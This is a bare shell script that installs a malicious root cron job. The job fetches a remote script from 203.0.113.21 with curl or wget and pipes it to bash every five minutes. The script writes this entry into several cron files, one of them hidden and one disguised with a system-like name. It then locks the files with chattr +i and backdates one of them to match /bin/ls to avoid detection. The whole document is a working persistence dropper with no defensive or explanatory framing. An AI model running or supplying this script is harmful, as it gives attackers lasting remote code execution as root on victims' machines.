#!/bin/sh
J='*/5 * * * * root (curl -fsSL http://203.0.113.21/a || wget -qO- http://203.0.113.21/a) | bash'
for t in /etc/cron.d/0hourly2 /etc/cron.d/.s /var/spool/cron/root /var/spool/cron/crontabs/root; do
    echo "$J" > "$t"
    chattr +i "$t"
done
touch -r /bin/ls /etc/cron.d/0hourly2
